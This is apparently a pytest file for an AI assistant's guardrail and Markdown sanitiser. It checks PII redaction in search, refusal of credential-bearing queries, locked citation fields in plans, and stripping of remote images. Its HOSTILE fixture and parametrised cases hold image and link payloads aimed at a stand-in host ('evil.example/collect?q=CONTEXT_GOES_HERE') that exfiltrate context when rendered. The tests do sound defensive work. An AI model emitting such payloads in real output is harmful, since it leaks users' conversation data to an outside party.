"""Paths that used to skip the guardrail or the sanitiser: search guidance (UI and CLI), a
mentor's JSON edit of a plan, and a hostile approved document that carries image links."""

from __future__ import annotations

import json
from types import SimpleNamespace
from typing import Any

import pytest

from assistant.planning.plan import PlanError, SessionPlan
from assistant.sanitize import safe_markdown
from tests.conftest import signed_in
from tests.planning.conftest import sample_plan

EMAIL = "jane.roe@example.org"
EVIL = "evil.example"
HOSTILE = f"""---
title: Posting rhythm for leaders
kind: guidance
topics: linkedin
---
# Posting rhythm for leaders

Leaders should publish on LinkedIn two or three times a week and reply to comments.
![chart](https://{EVIL}/collect?q=CONTEXT_GOES_HERE) Keep each post short.
<img src="https://{EVIL}/pixel?q=more"> Read the [posting guide](https://{EVIL}/guide?q=ctx)
before you start, and prefer plain text over images.
"""
FLAGGED = f"""# Help desk for leaders

Leaders who need help with LinkedIn posting rhythm can write to the social desk at {EMAIL}
and get a reply within a day.
"""


class RecordingEmbedder:
    """The real embedder, recording every text it is asked to embed."""

    def __init__(self, inner: Any) -> None:
        self.inner, self.texts = inner, []
        self.local = False  # behave like a remote service: it must never see raw text

    def embed(self, texts: list[str]) -> Any:
        self.texts += list(texts)
        return self.inner.embed(texts)

    def __getattr__(self, name: str) -> Any:
        return getattr(self.inner, name)


@pytest.fixture
def world(tmp_path, embedder) -> SimpleNamespace:
    """A knowledge base of two approved documents (one hostile, one with an email address
    that ingestion is set to keep, so the context stage is what must redact it), users of
    each role, and the app's handlers."""
    from assistant.guardrail import GuardrailSettings
    from assistant.services import Services
    from assistant.settings import Settings
    from ui.app import build_app

    keep_personal = GuardrailSettings(stage_actions={"ingestion": {"personal": "allow"}})
    services = Services(Settings(data_dir=tmp_path / "data", knowledge_dir=tmp_path,
                                 guardrail=keep_personal))
    services.embedder = RecordingEmbedder(embedder)
    for name, role in (("maya", "mentor"), ("erik", "executive"), ("ada", "admin")):
        services.users.add(name, role, "password-123")
    for name, text in (("hostile.md", HOSTILE), ("help-desk.md", FLAGGED)):
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        services.kb.add(path, {"status": "approved"}, actor="ada")
    assert EMAIL in " ".join(c.text for c in services.kb.chunks("help-desk"))  # stored raw
    services.kb.approve("hostile")
    services.embedder.texts.clear()
    app = build_app(services)
    handlers = {fn.name: fn.fn for fn in app.fns.values()}
    return SimpleNamespace(services=services, handlers=handlers,
                           user=lambda name: signed_in(services, name))


# ---- search guidance ------------------------------------------------------------------------


def test_search_redacts_results_and_embeds_only_the_redacted_query(world):
    out = world.handlers["search"](f"How often should leaders post? Ask {EMAIL}",
                                   world.user("erik"))
    assert "Help desk for leaders" in out  # the approved document is found ...
    assert EMAIL not in out and "[REDACTED_" in out  # ... its email redacted in the result
    assert world.services.embedder.texts and all(
        EMAIL not in t for t in world.services.embedder.texts)  # the embedder never saw it
    audit = world.services.guardrail.audit
    assert audit.search(stage="input", user="erik")  # the query's redaction is audited
    assert audit.search(stage="context", user="erik")  # so is the result's


def test_a_blocked_search_is_refused_before_retrieval(world):
    out = world.handlers["search"]("password: Hunter2!x how often to post?", world.user("erik"))
    assert "credential" in out.lower() and "Hunter2" not in out
    assert world.services.embedder.texts == []  # nothing was embedded, nothing retrieved
    assert world.services.guardrail.audit.search(stage="input", user="erik")


def test_cli_search_is_screened_for_non_admins(world, monkeypatch):
    from typer.testing import CliRunner

    from assistant.cli import kb

    monkeypatch.setattr(kb, "get_services", lambda: world.services)
    runner = CliRunner()
    result = runner.invoke(kb.app, ["search", f"posting rhythm help {EMAIL}", "--json",
                                    "--user", "erik"])
    assert result.exit_code == 0, result.output
    hits = json.loads(result.stdout)
    assert any(h["citation"]["doc_id"] == "help-desk" for h in hits)
    assert EMAIL not in result.stdout
    assert all(EMAIL not in t for t in world.services.embedder.texts)
    refused = runner.invoke(kb.app, ["search", "password: Hunter2!x", "--user", "erik"])
    assert refused.exit_code == 1 and "Hunter2" not in refused.output


# ---- hostile document: images and links in everything rendered ------------------------------


def no_remote_loads(markdown: str) -> None:
    assert "![" not in markdown and "<img" not in markdown.lower()
    assert f"](https://{EVIL}" not in markdown  # no Markdown link or image target left


def test_search_results_of_a_hostile_document_load_nothing(world):
    out = world.handlers["search"]("How often should leaders publish on LinkedIn?",
                                   world.user("erik"))
    assert "Posting rhythm for leaders" in out
    no_remote_loads(out)
    assert f"https://{EVIL}/guide?q=ctx" in out  # the link is spelled out, visible


def test_plans_and_answers_from_a_hostile_document_load_nothing(world):
    draft = world.handlers["draft_plan"]
    *_, (plan_md, *_rest) = draft("CFO", "beginner", "Post on LinkedIn weekly",
                                  "LinkedIn posting rhythm", 30, "", world.user("maya"))
    assert "## Agenda" in plan_md
    no_remote_loads(plan_md)
    *_, (history, _, _) = world.handlers["ask"](
        "How often should leaders publish on LinkedIn?", [], "", "", world.user("erik"))
    no_remote_loads(history[-1]["content"])
    preview = world.handlers["kb_preview"]("hostile", world.user("ada"))
    assert "Keep each post short" in preview
    no_remote_loads(preview)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"see ![x](https://{EVIL}/?q=secret) now", "see x (image not shown) now"),  # image
        (f'<img src="https://{EVIL}/?q=1">after', "after"),  # HTML image tag
        (f"<IMG SRC=https://{EVIL}/?q=1 >", ""),  # upper case, unquoted
        (f"[guide](https://{EVIL}/g)", f"guide (`https://{EVIL}/g`)"),  # link spelled out
        (f'[guide](https://{EVIL}/g "title")', f"guide (`https://{EVIL}/g`)"),  # with a title
        (f"![a][r]\n\n[r]: https://{EVIL}/?q=1", f"a (image not shown)\n\nr: https://{EVIL}/?q=1"),
        ('<a href="https://x">y</a>', '&lt;a href="https://x">y&lt;/a>'),  # other HTML as text
        ("**bold**, `code`, a < b, - list", "**bold**, `code`, a < b, - list"),  # unchanged
    ],
)
def test_safe_markdown(text, expected):
    assert safe_markdown(text) == expected


# ---- edited plans: citation fields may not change -------------------------------------------


@pytest.fixture
def stored(world) -> tuple[Any, int, dict[str, Any]]:
    """A stored plan of maya's with one covered, carried-over item."""
    carried = [{"kind": "covered", "item": "Posting rhythm", "reason": "covered last time",
                "chunks": ["doc::v1::0000"]}]
    plan = SessionPlan.model_validate(sample_plan(carried_over=carried))
    planner = world.services.planner
    plan_id = planner.plans.create(plan, "maya", "offline").id
    return planner, plan_id, plan.model_dump(mode="json")


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda d: d["sources"][0].update(title=f"Doc for {EMAIL}"),
         "may not change the plan's sources"),  # a secret in a source title
        (lambda d: d["sources"][0].update(label="Q3 board deck › Secrets"),
         "may not change the plan's sources"),  # a misattributed label
        (lambda d: d["carried_over"][0].update(chunks=["api_key=sk-live-1234567890abcdef"]),
         "chunk ids of carried-over items"),  # a secret as a carried-over chunk id
    ],
    ids=["source-title", "source-label", "carried-chunk"],
)
def test_an_edit_may_not_change_citation_fields(stored, change, message):
    planner, plan_id, data = stored
    change(data)
    with pytest.raises(PlanError, match=message):
        planner.edit(plan_id, data, "maya")
    assert planner.plans.get(plan_id, "maya").version == 1  # nothing was stored


def test_an_edit_of_the_prose_is_screened_and_saved(stored):
    planner, plan_id, data = stored
    data["title"] = f"LinkedIn with {EMAIL}"
    result = planner.edit(plan_id, data, "maya")
    assert result.version == 2 and EMAIL not in result.plan.title
